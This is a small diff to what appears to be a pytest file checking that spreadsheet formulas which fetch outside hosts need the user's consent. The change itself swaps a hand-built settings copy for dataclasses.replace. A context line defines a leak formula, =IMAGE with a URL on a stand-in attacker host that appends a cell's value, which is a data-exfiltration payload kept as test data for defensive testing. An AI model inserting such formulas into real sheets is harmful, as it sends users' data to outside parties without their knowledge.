@@ -1,5 +1,7 @@
 """Formulas by which Google asks other hosts: nothing leaves the account without the person's word."""
 
+from dataclasses import replace
+
 import pytest
 
 from tests.conftest import Model
@@ -16,9 +18,7 @@ LEAK = '=IMAGE("https://evil.example/?q="&B2)'
 @pytest.fixture
 def settings(settings: Settings, request: pytest.FixtureRequest) -> Settings:
     policy: Policy = getattr(request, "param", Policy(ask=Ask.NEVER))
-    return settings.__class__(**{
-        **{name: getattr(settings, name) for name in settings.__dataclass_fields__}, "policy": policy,
-    })  # fmt: skip
+    return replace(settings, policy=policy)
 
 
 ASKING = pytest.mark.parametrize("settings", [Policy(ask=Ask.ALL)], indirect=True)
